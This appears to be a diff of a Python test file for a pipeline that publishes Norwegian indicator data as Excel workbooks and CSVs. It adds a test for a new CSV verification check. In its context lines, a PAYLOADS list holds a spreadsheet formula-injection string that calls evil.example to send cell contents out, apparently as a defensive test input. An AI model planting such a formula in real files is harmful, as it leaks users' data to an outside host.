@@ -21,7 +21,7 @@ from flows.publish.downloads import (
     write_workbook,
 )
 from flows.publish.marts import MARTS, ReportData
-from flows.publish.verify import check_workbook
+from flows.publish.verify import check_csvs, check_workbook
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
@@ -193,6 +193,32 @@ def test_the_workbook_check_compares_a_sheet_for_people_value_by_value_in_its_wo
 
 
 # ------------------------------------------------------------------------ CSV for Excel
+def test_the_csv_check_reads_a_file_for_people_back_as_it_shows_the_marts(tmp_path):
+    data = _report()
+    write_csvs(data, tmp_path / "data")
+    columns = Columns(data)
+    assert check_csvs(tmp_path / "data", data.marts, columns) == []
+    changed = [dict(r) for r in data.marts["fct_indicator_values"]]
+    changed[0]["value"] += 0.01  # 9.521..., still shown as 9,5: the file for people shows it
+    problems = check_csvs(tmp_path / "data", {**data.marts, "fct_indicator_values": changed},
+                          columns)  # fmt: skip
+    assert [p.split(":")[0] for p in problems] == ["data/machine/fct_indicator_values.csv"]
+    changed[0]["value"] += 0.11  # 9.631...: 9,5 no longer shows it
+    changed[1]["origin"] = "official"  # a word
+    problems = check_csvs(tmp_path / "data", {**data.marts, "fct_indicator_values": changed},
+                          columns)  # fmt: skip
+    assert problems == [
+        "data/fct_indicator_values.csv: value of geo_code bodo, indicator_id births_per_1000, "
+        "year 2026 shows 9,5, but the marts hold 9,631170.",
+        "data/fct_indicator_values.csv: origin of geo_code bodo, indicator_id share_age_67_plus, "
+        f"year 2026 shows {SAMPLE}, but the marts hold {OFFICIAL}.",
+        "data/machine/fct_indicator_values.csv: value of geo_code bodo, indicator_id "
+        "births_per_1000, year 2026 shows 9.51117009511, but the marts hold 9.631170095109999.",
+        "data/machine/fct_indicator_values.csv: origin of geo_code bodo, indicator_id "
+        "share_age_67_plus, year 2026 shows sample, but the marts hold official.",
+    ], problems
+
+
 def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
     write_csvs(_report(), tmp_path)
     raw, rows = _read(tmp_path / "fct_indicator_values.csv")
